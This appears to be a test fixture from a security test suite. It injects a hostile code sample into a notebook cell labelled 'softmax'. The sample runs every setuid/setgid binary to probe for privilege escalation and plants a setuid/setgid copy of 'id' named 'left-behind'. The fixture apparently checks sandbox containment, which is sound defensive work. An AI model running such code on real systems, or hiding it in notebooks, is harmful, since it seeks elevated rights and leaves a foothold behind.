"""Runs every program that would run with another user's rights, and gives its own files such rights."""

from tests.hostile.attack_tools import append

POINTS = {}

CODE = """
import os, shutil, stat, subprocess

me = os.getuid()
for folder in ("/usr/bin", "/usr/sbin", "/bin", "/usr/lib", "/usr/libexec"):
    for name in os.listdir(folder) if os.path.isdir(folder) else ():
        path = os.path.join(folder, name)
        try:
            mode = os.stat(path).st_mode
            if stat.S_ISREG(mode) and mode & (stat.S_ISUID | stat.S_ISGID):
                subprocess.run([path, "-c", "id"], stdin=subprocess.DEVNULL, capture_output=True, timeout=0.5)
        except (OSError, subprocess.TimeoutExpired):
            pass
shutil.copy("/usr/bin/id", "left-behind")
os.chmod("left-behind", 0o6777)
assert subprocess.run(["./left-behind", "-u"], capture_output=True, text=True).stdout.strip() == str(me)
assert os.getresuid() == (me,) * 3 and me != 0
"""


def make(nb):
    append(nb, "softmax", CODE)
